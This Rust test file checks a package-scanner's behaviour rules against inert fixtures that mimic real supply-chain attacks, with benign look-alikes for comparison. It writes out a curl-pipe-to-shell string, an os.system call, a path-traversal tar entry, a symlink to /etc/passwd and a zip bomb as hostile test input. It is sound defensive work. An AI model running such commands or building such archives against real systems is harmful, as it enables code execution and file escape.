//! Behaviour analysis through the CLI: inert re-creations of real attacks
//! (tests/fixtures/behavior, archives built here from those directories),
//! their benign look-alikes, archive safety, and the real corpus.

mod common;

use common::{corpus_cache, fixture, json_report};
use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};

fn scan(home: &Path, paths: &[&Path]) -> Value {
    let mut args: Vec<String> = vec!["scan".into(), "--only".into(), "behavior".into()];
    args.extend(paths.iter().map(|p| p.display().to_string()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    json_report(home, &args)
}

fn findings(report: &Value) -> Vec<Value> {
    report["findings"].as_array().cloned().unwrap_or_default()
}

/// Worst severity of `rule` (any rule when `None`) among the findings, as a rank.
fn worst(report: &Value, rule: Option<&str>) -> u8 {
    findings(report)
        .iter()
        .filter(|f| rule.is_none_or(|r| f["rule_id"] == r))
        .map(|f| rank(f["severity"].as_str().unwrap_or("")))
        .max()
        .unwrap_or(0)
}

fn rank(s: &str) -> u8 {
    match s {
        "info" => 1,
        "low" => 2,
        "medium" => 3,
        "high" => 4,
        "critical" => 5,
        _ => 0,
    }
}

const CRITICAL: u8 = 5;
const HIGH: u8 = 4;
const MEDIUM: u8 = 3;

fn all_files(dir: &Path, base: &Path, out: &mut Vec<(String, PathBuf)>) {
    let mut entries: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            all_files(&p, base, out);
        } else {
            let rel = p
                .strip_prefix(base)
                .unwrap()
                .to_string_lossy()
                .replace('\\', "/");
            out.push((rel, p));
        }
    }
}

/// Builds a wheel (zip) of a fixture directory.
fn wheel(src: &Path, out: &Path) -> PathBuf {
    let mut files = Vec::new();
    all_files(src, src, &mut files);
    let f = std::fs::File::create(out).unwrap();
    let mut z = zip::ZipWriter::new(f);
    let opts = zip::write::SimpleFileOptions::default();
    for (rel, p) in files {
        z.start_file(rel, opts).unwrap();
        z.write_all(&std::fs::read(p).unwrap()).unwrap();
    }
    z.finish().unwrap();
    out.to_path_buf()
}

/// Builds a gzip tar of a fixture directory, every member under `prefix`.
fn tarball(src: &Path, prefix: &str, out: &Path) -> PathBuf {
    let mut files = Vec::new();
    all_files(src, src, &mut files);
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(out).unwrap(),
        flate2::Compression::fast(),
    );
    let mut b = tar::Builder::new(gz);
    for (rel, p) in files {
        let data = std::fs::read(p).unwrap();
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, format!("{prefix}{rel}"), &data[..])
            .unwrap();
    }
    b.into_inner().unwrap().finish().unwrap();
    out.to_path_buf()
}

/// Whether `rule` is reported at `min` or worse: as its own finding, or
/// folded into a chain finding (TG200 lists the rules it absorbed).
fn has_rule(report: &Value, rule: &str, min: u8) -> bool {
    findings(report).iter().any(|f| {
        let folded = f["rule_id"] == "TG200"
            && f["evidence"][0]
                .as_str()
                .and_then(|e| e.strip_prefix("also matches: "))
                .is_some_and(|l| l.split(", ").any(|r| r.split(' ').next() == Some(rule)));
        (f["rule_id"] == rule || folded) && rank(f["severity"].as_str().unwrap_or("")) >= min
    })
}

#[test]
fn litellm_pth_is_one_critical_chain() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(
        home.path(),
        &[&fixture("behavior/litellm_pth/site-packages")],
    );
    assert!(has_rule(&r, "TG201", CRITICAL), "{r:#}");
    // One file, one finding: the other rules fold into the chain.
    let on_pth: Vec<Value> = findings(&r)
        .into_iter()
        .filter(|f| {
            f["location"]["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("litellm_init.pth"))
        })
        .collect();
    assert_eq!(on_pth.len(), 1, "{r:#}");
    let chain = findings(&r)
        .into_iter()
        .find(|f| f["rule_id"] == "TG200")
        .unwrap_or_else(|| panic!("no chain finding: {r:#}"));
    assert_eq!(chain["severity"], "critical");
    let msg = chain["message"].as_str().unwrap();
    // The decoded payload's behaviour is part of the chain.
    assert!(
        msg.contains("startup hook") && msg.contains("base64"),
        "{msg}"
    );
    assert!(
        msg.contains("credential") && msg.contains("exfiltration"),
        "{msg}"
    );
    assert!(has_rule(&r, "TG207", CRITICAL));
    // Owned by a RECORD: not an unowned file.
    assert!(!has_rule(&r, "TG214", 1));
}

#[test]
fn orphaned_pth_is_unowned_and_critical() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(
        home.path(),
        &[&fixture("behavior/orphan_pth/site-packages")],
    );
    assert!(has_rule(&r, "TG214", CRITICAL), "{r:#}");
    assert!(has_rule(&r, "TG201", CRITICAL));
}

#[test]
fn benign_startup_hooks_and_library_code_stay_quiet() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(
        home.path(),
        &[&fixture("behavior/benign_env/site-packages")],
    );
    assert!(worst(&r, None) < MEDIUM, "{r:#}");
    assert!(!has_rule(&r, "TG201", 1), "{r:#}");
    // The SDK reading its own credential file is at most low.
    assert!(worst(&r, Some("TG206")) <= 2);
}

#[test]
fn shai_hulud_postinstall_is_critical() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(home.path(), &[&fixture("behavior/shai_hulud")]);
    assert!(has_rule(&r, "TG202", CRITICAL), "{r:#}");
    assert!(has_rule(&r, "TG209", CRITICAL), "{r:#}");
    assert!(has_rule(&r, "TG206", HIGH), "{r:#}");
    assert!(has_rule(&r, "TG200", CRITICAL), "{r:#}");
}

#[test]
fn shai_hulud_as_npm_tarball() {
    let home = tempfile::tempdir().unwrap();
    let tgz = tarball(
        &fixture("behavior/shai_hulud"),
        "package/",
        &home.path().join("tinycolor-utils-4.1.2.tgz"),
    );
    let r = scan(home.path(), &[&tgz]);
    assert!(has_rule(&r, "TG202", CRITICAL), "{r:#}");
    let loc = findings(&r)[0]["location"]["path"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(loc.contains(".tgz!/package/"), "{loc}");
}

#[test]
fn setup_bun_dropper_is_critical() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(home.path(), &[&fixture("behavior/setup_bun")]);
    assert!(has_rule(&r, "TG210", CRITICAL), "{r:#}");
    assert!(has_rule(&r, "TG202", CRITICAL), "{r:#}");
}

#[test]
fn s1ngularity_ai_cli_abuse_is_critical() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(home.path(), &[&fixture("behavior/s1ngularity")]);
    assert!(has_rule(&r, "TG212", CRITICAL), "{r:#}");
}

#[test]
fn tanstack_git_optional_dependency() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(home.path(), &[&fixture("behavior/tanstack")]);
    assert!(has_rule(&r, "TG211", HIGH), "{r:#}");
    // The git dependency's prepare script steals and sends.
    let r = scan(home.path(), &[&fixture("behavior/tanstack_gitdep")]);
    assert!(has_rule(&r, "TG202", HIGH), "{r:#}");
    assert!(has_rule(&r, "TG207", CRITICAL), "{r:#}");
}

#[test]
fn sysmon_service_in_sdist_setup_py() {
    let home = tempfile::tempdir().unwrap();
    let sdist = tarball(
        &fixture("behavior/sysmon_sdist"),
        "",
        &home.path().join("sysmon-helper-0.1.tar.gz"),
    );
    let r = scan(home.path(), &[&sdist]);
    assert!(has_rule(&r, "TG208", CRITICAL), "{r:#}");
    assert!(has_rule(&r, "TG203", CRITICAL), "{r:#}");
    // The same as a source tree the user points at.
    let r = scan(
        home.path(),
        &[&fixture("behavior/sysmon_sdist/sysmon-helper-0.1")],
    );
    assert!(has_rule(&r, "TG208", CRITICAL), "{r:#}");
}

#[test]
fn plain_setup_py_is_quiet() {
    let home = tempfile::tempdir().unwrap();
    let sdist = tarball(
        &fixture("behavior/plain_sdist"),
        "",
        &home.path().join("plainpkg-1.0.tar.gz"),
    );
    let r = scan(home.path(), &[&sdist]);
    assert_eq!(findings(&r).len(), 0, "{r:#}");
}

#[test]
fn claude_settings_writer_in_wheel() {
    let home = tempfile::tempdir().unwrap();
    let whl = wheel(
        &fixture("behavior/claude_hook_whl"),
        &home.path().join("agenthelper-0.3-py3-none-any.whl"),
    );
    let r = scan(home.path(), &[&whl]);
    assert!(has_rule(&r, "TG208", HIGH), "{r:#}");
}

#[test]
fn k8s_privileged_pod_creator_in_wheel() {
    let home = tempfile::tempdir().unwrap();
    let whl = wheel(
        &fixture("behavior/k8s_whl"),
        &home.path().join("clusterinfo-2.0-py3-none-any.whl"),
    );
    let r = scan(home.path(), &[&whl]);
    assert!(has_rule(&r, "TG209", CRITICAL), "{r:#}");
}

#[test]
fn obfuscated_install_script_is_critical() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(home.path(), &[&fixture("behavior/obfuscated_npm")]);
    assert!(has_rule(&r, "TG205", CRITICAL), "{r:#}");
    assert!(has_rule(&r, "TG202", CRITICAL), "{r:#}");
}

#[test]
fn benign_npm_packages_stay_quiet() {
    let home = tempfile::tempdir().unwrap();
    let r = scan(home.path(), &[&fixture("behavior/benign_npm")]);
    assert!(worst(&r, None) < MEDIUM, "{r:#}");
    // node-gyp rebuild is info.
    assert!(
        findings(&r)
            .iter()
            .any(|f| f["rule_id"] == "TG202" && f["severity"] == "info"),
        "{r:#}"
    );
}

#[test]
fn record_mismatch_and_binary_in_pure_package() {
    let home = tempfile::tempdir().unwrap();
    let sp = home.path().join("env/site-packages");
    let dist = sp.join("tampered-1.0.dist-info");
    std::fs::create_dir_all(&dist).unwrap();
    std::fs::create_dir_all(sp.join("tampered")).unwrap();
    std::fs::write(
        dist.join("METADATA"),
        "Metadata-Version: 2.1\nName: tampered\nVersion: 1.0\n",
    )
    .unwrap();
    // RECORD promises other bytes than the file has.
    std::fs::write(
        sp.join("tampered/__init__.py"),
        "import os\nos.system('id')\n",
    )
    .unwrap();
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend(vec![0u8; 120]);
    std::fs::write(sp.join("tampered/helper"), &elf).unwrap();
    std::fs::write(
        dist.join("RECORD"),
        "tampered/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,17\ntampered/helper,,\ntampered-1.0.dist-info/METADATA,,\ntampered-1.0.dist-info/RECORD,,\n",
    )
    .unwrap();
    let r = scan(home.path(), &[&sp]);
    assert!(has_rule(&r, "TG213", HIGH), "{r:#}");
    assert!(has_rule(&r, "TG215", MEDIUM), "{r:#}");
    // A correct RECORD and a platform-tagged binary package: quiet.
    let ok = home.path().join("ok/site-packages");
    let d = ok.join("fine-1.0.dist-info");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::create_dir_all(ok.join("fine")).unwrap();
    std::fs::write(
        d.join("METADATA"),
        "Metadata-Version: 2.1\nName: fine\nVersion: 1.0\n",
    )
    .unwrap();
    std::fs::write(
        d.join("WHEEL"),
        "Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: py3-none-manylinux_2_17_x86_64\n",
    )
    .unwrap();
    std::fs::write(ok.join("fine/__init__.py"), "").unwrap();
    std::fs::write(ok.join("fine/tool"), &elf).unwrap();
    std::fs::write(
        d.join("RECORD"),
        "fine/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\nfine/tool,,\nfine-1.0.dist-info/METADATA,,\nfine-1.0.dist-info/WHEEL,,\nfine-1.0.dist-info/RECORD,,\n",
    )
    .unwrap();
    let r = scan(home.path(), &[&ok]);
    assert_eq!(worst(&r, None), 0, "{r:#}");
}

#[test]
fn npm_tarball_against_lockfile_integrity() {
    use base64::Engine;
    use sha2::Digest;
    let home = tempfile::tempdir().unwrap();
    let tgz = tarball(
        &fixture("behavior/obfuscated_npm"),
        "package/",
        &home.path().join("color-strings-2.0.1.tgz"),
    );
    let good = base64::engine::general_purpose::STANDARD
        .encode(sha2::Sha512::digest(std::fs::read(&tgz).unwrap()));
    let lock = |integrity: &str| {
        format!(
            r#"{{"name":"app","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{{"":{{"name":"app","version":"1.0.0","dependencies":{{"color-strings":"2.0.1"}}}},"node_modules/color-strings":{{"version":"2.0.1","resolved":"https://registry.npm.invalid/color-strings/-/color-strings-2.0.1.tgz","integrity":"sha512-{integrity}"}}}}}}"#
        )
    };
    let dir = home.path().join("proj");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("package-lock.json"), lock(&good)).unwrap();
    let r = scan(home.path(), &[&dir.join("package-lock.json"), &tgz]);
    assert!(!has_rule(&r, "TG216", 1), "{r:#}");
    let bad = base64::engine::general_purpose::STANDARD.encode([7u8; 64]);
    std::fs::write(dir.join("package-lock.json"), lock(&bad)).unwrap();
    let r = scan(home.path(), &[&dir.join("package-lock.json"), &tgz]);
    assert!(has_rule(&r, "TG216", HIGH), "{r:#}");
}

/// Hostile archives end in clear errors, with bounded memory, and the rest
/// of the scan goes on.
#[test]
fn hostile_archives_are_errors_not_crashes() {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path();
    // A zip bomb: 200 MB of zeros in a few hundred KB.
    let bomb = dir.join("bomb-1.0-py3-none-any.whl");
    {
        let mut z = zip::ZipWriter::new(std::fs::File::create(&bomb).unwrap());
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        z.start_file("bomb/__init__.py", opts).unwrap();
        let zeros = vec![b' '; 1 << 20];
        for _ in 0..200 {
            z.write_all(&zeros).unwrap();
        }
        z.finish().unwrap();
    }
    // A tar with `../` paths and a symlink; an absurd declared size.
    let evil = dir.join("evil-1.0.tgz");
    {
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&evil).unwrap(),
            flate2::Compression::fast(),
        );
        let mut b = tar::Builder::new(gz);
        let data = b"require('child_process').execSync('curl x.invalid | sh')";
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        // tar::Builder refuses `..`, so write the name into the header directly.
        let name = b"package/../../escape.js";
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        h.set_cksum();
        b.append(&h, &data[..]).unwrap();
        let mut l = tar::Header::new_gnu();
        l.set_entry_type(tar::EntryType::Symlink);
        l.set_size(0);
        l.set_cksum();
        b.append_link(&mut l, "package/link.js", "/etc/passwd")
            .unwrap();
        b.into_inner().unwrap().finish().unwrap();
    }
    let huge = dir.join("huge-1.0.tgz");
    {
        let gz = flate2::write::GzEncoder::new(
            std::fs::File::create(&huge).unwrap(),
            flate2::Compression::fast(),
        );
        let mut b = tar::Builder::new(gz);
        let mut h = tar::Header::new_gnu();
        h.set_size(1 << 40);
        h.set_mode(0o644);
        h.set_path("package/index.js").unwrap();
        h.set_cksum();
        b.append(&h, &b"short"[..]).unwrap();
        // The builder would pad to the declared size; the stream just ends.
        let _ = b.into_inner().map(|g| g.finish());
    }
    let ok = tarball(
        &fixture("behavior/setup_bun"),
        "package/",
        &dir.join("ok-1.0.tgz"),
    );
    let out = common::tollgate(dir)
        .args([
            "scan",
            "--only",
            "behavior",
            "--format",
            "json",
            "--fail-on",
            "never",
        ])
        .args([&bomb, &evil, &huge, &ok])
        .output()
        .unwrap();
    let r: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let errors = r["errors"].to_string();
    assert!(errors.contains("zip bomb"), "{errors}");
    assert!(errors.contains("escapes the archive"), "{errors}");
    assert!(errors.contains("/etc/passwd"), "{errors}");
    assert!(errors.contains("huge-1.0.tgz"), "{errors}");
    // The good archive in the same run was still analysed.
    assert!(has_rule(&r, "TG210", CRITICAL), "{r:#}");
    // Bounded memory: peak resident set of the same scan, through GNU time
    // when the machine has it (it does on the project's machines and CI).
    let time = Path::new("/usr/bin/time");
    if time.exists() {
        let rss_file = dir.join("rss.txt");
        let bin = assert_cmd::cargo::cargo_bin("tollgate");
        let status = std::process::Command::new(time)
            .arg("-f")
            .arg("%M")
            .arg("-o")
            .arg(&rss_file)
            .arg(&bin)
            .args([
                "scan",
                "--only",
                "behavior",
                "--quiet",
                "--format",
                "json",
                "--fail-on",
                "never",
            ])
            .args([&bomb, &evil, &huge, &ok])
            .env("TOLLGATE_HOME", dir)
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(status.code().is_some());
        let kb: u64 = std::fs::read_to_string(&rss_file)
            .unwrap()
            .lines()
            .last()
            .and_then(|l| l.trim().parse().ok())
            .unwrap();
        assert!(kb < 512 * 1024, "peak RSS {kb} KB");
    } else {
        eprintln!("\n!!! SKIPPING the memory bound: /usr/bin/time is missing !!!\n");
    }
}

/// The real corpus: zero critical and high findings; every medium is
/// documented in docs/behavior-corpus-mediums.md.
#[test]
fn corpus_has_no_high_findings_and_mediums_are_documented() {
    let (Some(venv), Some(nm)) = (corpus_cache("venv"), corpus_cache("npm/node_modules")) else {
        return;
    };
    let home = tempfile::tempdir().unwrap();
    let r = scan(home.path(), &[&venv, &nm]);
    let fs = findings(&r);
    assert!(
        r["tool"]["data"]["behavior"]["files_read"]
            .as_u64()
            .unwrap_or(0)
            > 30_000,
        "{:#}",
        r["tool"]
    );
    let high: Vec<&Value> = fs
        .iter()
        .filter(|f| rank(f["severity"].as_str().unwrap_or("")) >= HIGH)
        .collect();
    assert!(
        high.is_empty(),
        "high/critical findings on the benign corpus: {high:#?}"
    );
    let doc = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/behavior-corpus-mediums.md"),
    )
    .unwrap();
    for f in fs.iter().filter(|f| f["severity"] == "medium") {
        let path = f["location"]["path"].as_str().unwrap_or("");
        let key = path.split("site-packages/").last().unwrap_or(path);
        let key = key.split("node_modules/").last().unwrap_or(key);
        let entry = format!("{} `{key}`", f["rule_id"].as_str().unwrap_or(""));
        assert!(
            doc.contains(&entry),
            "undocumented medium finding: {entry} ({})",
            f["message"]
        );
    }
}

/// An archive or source tree that only the behaviour analysis reads still
/// counts as read: findings at or above --fail-on exit 1, not 2.
#[test]
fn exit_code_for_archives_and_source_trees() {
    let home = tempfile::tempdir().unwrap();
    let tgz = tarball(
        &fixture("behavior/setup_bun"),
        "package/",
        &home.path().join("bun-helper-1.0.0.tgz"),
    );
    common::tollgate(home.path())
        .args(["scan", "--only", "behavior", "--quiet"])
        .arg(&tgz)
        .assert()
        .code(1);
    common::tollgate(home.path())
        .args(["scan", "--only", "behavior", "--quiet"])
        .arg(fixture("behavior/plain_sdist/plainpkg-1.0"))
        .assert()
        .code(0);
}
